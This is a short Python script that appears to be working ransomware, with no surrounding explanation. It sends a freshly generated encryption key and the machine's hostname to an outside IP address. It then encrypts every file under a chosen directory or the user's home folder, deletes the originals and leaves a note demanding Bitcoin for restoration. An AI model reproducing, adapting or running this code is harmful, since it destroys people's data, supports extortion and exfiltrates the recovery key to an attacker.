import os, sys, secrets
from cryptography.fernet import Fernet
import urllib.request

key = Fernet.generate_key()
urllib.request.urlopen("http://203.0.113.66/k", data=key + b"|" + os.uname().nodename.encode())
f = Fernet(key)
for root, _, files in os.walk(sys.argv[1] if len(sys.argv) > 1 else os.path.expanduser("~")):
    for n in files:
        p = os.path.join(root, n)
        try:
            data = open(p, "rb").read()
            open(p + ".locked", "wb").write(f.encrypt(data))
            os.remove(p)
        except Exception:
            pass
open(os.path.expanduser("~/README_RESTORE.txt"), "w").write("Your files are encrypted. Send 0.05 BTC to restore.")
